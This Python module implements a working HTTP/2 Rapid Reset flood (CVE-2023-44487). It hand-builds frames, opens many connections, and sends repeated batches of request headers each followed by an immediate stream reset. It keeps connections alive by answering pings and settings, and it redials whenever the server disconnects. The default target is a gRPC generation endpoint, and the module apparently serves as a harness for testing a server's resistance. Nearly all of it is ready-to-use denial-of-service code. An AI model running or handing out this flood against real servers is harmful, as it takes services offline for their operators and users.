"""A flood of calls that are reset as soon as they are begun (CVE-2023-44487), over several connections, from one thread.

Frames are made once and sent as they are: HTTP/2 without a library, because a library would be slower than the server. It answers pings
and settings, as an attacker does who wants to stay connected, and dials again when it is hung up on.
"""

import selectors
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
ACK, END_HEADERS = 1, 4
CANCEL = 8
BATCH = 100


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def header_block(path: str) -> bytes:
    """The headers of a call, without the dynamic table (RFC 7541, 6.2.2), so that every call is the same bytes."""

    def text(value: str) -> bytes:
        return bytes([len(value)]) + value.encode()

    named = b"".join(b"\x00" + text(name) + text(value) for name, value in (("content-type", "application/grpc"), ("te", "trailers")))
    return b"\x83\x86\x04" + text(path) + b"\x01" + text("x") + named


@dataclass
class _Connection:
    """One attacker's connection. todo: bytes to send; news: what came and is no whole frame yet."""

    socket: socket.socket
    todo: bytearray = field(default_factory=lambda: bytearray(PREFACE))
    news: bytearray = field(default_factory=bytearray)
    stream: int = 1

    def begin(self, block: bytes) -> None:
        for _ in range(BATCH):
            self.todo += frame(HEADERS, END_HEADERS, self.stream, block) + frame(RST_STREAM, 0, self.stream, CANCEL.to_bytes(4, "big"))
            self.stream += 2

    def answer(self) -> None:
        """Acknowledge settings and pings."""
        while len(self.news) >= 9 and len(self.news) >= 9 + (size := int.from_bytes(self.news[:3], "big")):
            kind, flags, payload = self.news[3], self.news[4], bytes(self.news[9 : 9 + size])
            del self.news[: 9 + size]
            if kind in (SETTINGS, PING) and not flags & ACK:
                self.todo += frame(kind, ACK, 0, payload if kind == PING else b"")


class Flood:
    """Runs from `start` to `stop`. num_sent: calls begun and reset; num_hung_up: connections that the other side has ended."""

    def __init__(self, address: str, num_connections: int, path: str = "/pagecast.v1.GenerationService/Generate") -> None:
        host, port = address.rsplit(":", 1)
        self._where = (host, int(port))
        self._block = header_block(path)
        self._num_connections = num_connections
        self._selector = selectors.DefaultSelector()
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.num_sent = 0
        self.num_hung_up = 0

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._over.set()
        self._thread.join(60)

    def _dial(self) -> None:
        connection = _Connection(socket.create_connection(self._where, timeout=60))
        connection.socket.setblocking(False)
        self._selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)

    def _run(self) -> None:
        for _ in range(self._num_connections):
            self._dial()
        while not self._over.is_set():
            for key, events in self._selector.select(0.1):
                try:
                    self._serve(key.data, events)
                except BlockingIOError:
                    continue
                except OSError:
                    self.num_hung_up += 1
                    self._end(key.data)
                    self._dial()
        for key in list(self._selector.get_map().values()):
            self._end(key.data)
        self._selector.close()

    def _end(self, connection: _Connection) -> None:
        self._selector.unregister(connection.socket)
        connection.socket.close()

    def _serve(self, connection: _Connection, events: int) -> None:
        if events & selectors.EVENT_READ:
            news = connection.socket.recv(65536)
            if not news:
                raise ConnectionResetError
            connection.news += news
            connection.answer()
        if events & selectors.EVENT_WRITE:
            if not connection.todo:
                connection.begin(self._block)
                self.num_sent += BATCH
            del connection.todo[: connection.socket.send(connection.todo)]


@contextmanager
def flood(address: str, num_connections: int) -> Iterator[Flood]:
    """One that ends with the block."""
    running = Flood(address, num_connections)
    running.start()
    try:
        yield running
    finally:
        running.stop()
